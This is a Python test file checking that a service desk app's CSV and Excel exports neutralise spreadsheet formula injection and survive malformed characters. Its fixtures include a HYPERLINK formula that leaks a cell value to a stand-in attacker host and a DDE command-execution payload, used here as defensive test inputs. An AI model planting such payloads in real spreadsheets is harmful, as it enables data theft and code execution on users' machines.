"""Statistics and access-log spreadsheets: hostile text in, nothing that runs out.

A file opened in Excel at the ministry must never evaluate anything (OWASP, CSV injection),
and a control character in a label must not crash the export.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from helpers.world import World, consent
from onestop_desk.db import models
from onestop_desk.domain.text import csv_cell, is_formula_like
from onestop_desk.services.access_log import AuditLogService

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"보기")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=cmd|' /C calc'!A0",
    " =1+1",
]
BROKEN = [
    "서울\x0b센터",  # Word's manual line break: openpyxl's IllegalCharacterError
    "널\x00문자",
    "반쪽\ud800이모지",
    "\u202e뒤집힌\u202c 이름",
    "줄\r\n바꿈",
    "<b>&amp;</b>",
    "가" * 5000,
]
HOSTILE = FORMULAS + BROKEN
# What a database can hold at all: SQLite refuses a lone surrogate outright.
STORABLE = [t for t in HOSTILE if not any("\ud800" <= c <= "\udfff" for c in t)]


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _assert_inert(cells: list[str]) -> None:
    for cell in cells:
        assert not is_formula_like(cell) or cell.startswith("'"), cell
        assert "\x00" not in cell and "\x0b" not in cell and "\u202e" not in cell


@pytest.fixture
def hostile_agencies(world: World) -> list[str]:
    """Agencies named with hostile text, written past the store's cleaning as an old
    database or a direct edit would have them, each with one referral."""
    case = world.new_case(name="통계대상")
    # PostgreSQL refuses a NUL in text outright, as SQLite does a lone surrogate, and holds
    # a column to its declared length (an agency name: 200).
    storable = [
        t for t in STORABLE if not (world.store.is_server and ("\x00" in t or len(t) > 200))
    ]
    with world.store.sessions.begin() as s:
        codes = list(s.scalars(select(models.Agency.code).order_by(models.Agency.id)))[
            : len(storable)
        ]
        for code, name in zip(codes, storable, strict=True):
            s.execute(update(models.Agency).where(models.Agency.code == code).values(name=name))
    for code in codes[:3]:
        world.c1.consents.record(case.id, consent(code))
        world.c1.referrals.create(case.id, code, [])
    return codes


def test_statistics_csv_never_carries_a_formula(world: World, hostile_agencies) -> None:
    data = world.lead.statistics.export(date(2026, 11, 1), date(2026, 11, 30), "csv", reason="보고")
    cells = [cell for row in _rows(data) for cell in row]
    _assert_inert(cells)
    for text in FORMULAS:  # labels are printed stripped of surrounding blanks
        assert "'" + text.strip() in cells, text
    assert "서울\n센터" in cells
    if not world.store.is_server:  # text PostgreSQL cannot hold (see hostile_agencies)
        assert "널문자" in cells and "가" * 5000 in cells


def test_statistics_xlsx_opens_with_text_as_typed_and_no_formula(world, hostile_agencies):
    data = world.lead.statistics.export(
        date(2026, 11, 1), date(2026, 11, 30), "xlsx", reason="보고"
    )
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in ('=HYPERLINK("http://evil.example/?x="&A1,"보기")', "+1", "-2", "@SUM(A1:A9)"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert "서울\n센터" in cells and "뒤집힌 이름" in cells and "<b>&amp;</b>" in cells
    if not world.store.is_server:  # text PostgreSQL cannot hold (see hostile_agencies)
        assert "널문자" in cells and "가" * 5000 in cells
    assert cells["<5"].data_type == "s"  # a hidden count stays the text it is


def _log(world: World, detail: str, reason: str) -> None:
    services = world.c1
    with world.store.sessions.begin() as s:
        services.audit.record(s, services.actor, "view", detail=detail, reason=reason)


def test_access_log_csv_and_monthly_review_csv_never_carry_a_formula(world: World) -> None:
    for text in HOSTILE:
        _log(world, text, text)
    _log(world, "", "")
    log = AuditLogService(world.admin.context)
    rows = _rows(log.export_csv("=1+1 점검").encode("utf-8-sig"))
    cells = [cell for row in rows for cell in row]
    _assert_inert(cells)
    details = [row[6] for row in rows[1:] if row[5] == "view"]
    assert details[: len(FORMULAS)] == [csv_cell(t) for t in FORMULAS]
    assert details[0] == "'" + FORMULAS[0]
    assert "'=1+1 점검" in cells  # the export's own reason, as logged

    from onestop_desk.cli.audit import review_csv as cli_review_csv
    from onestop_desk.ui.admin.audit_page import review_csv as ui_review_csv

    with world.store.sessions.begin() as s:
        world.c1.audit.record(s, world.c1.actor, "export", detail="=evil()", reason="@SUM(1)")
    review = log.review("2026-11")
    for text in (cli_review_csv(review), ui_review_csv(review)):
        found = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        _assert_inert(found)
        assert any("@SUM(1)" in cell for cell in found)


def test_csv_cell_rules() -> None:
    assert [csv_cell(t) for t in ("=1", "+1", "-2", "@x", "\t=1", "\r=1", "  =1")] == [
        "'=1",
        "'+1",
        "'-2",
        "'@x",
        "'\t=1",
        "'\n=1",
        "'  =1",
    ]
    assert [csv_cell(t) for t in ("가=1", "1-2", "a@b.kr", "", "'=1")] == [
        "가=1",
        "1-2",
        "a@b.kr",
        "",
        "'=1",
    ]
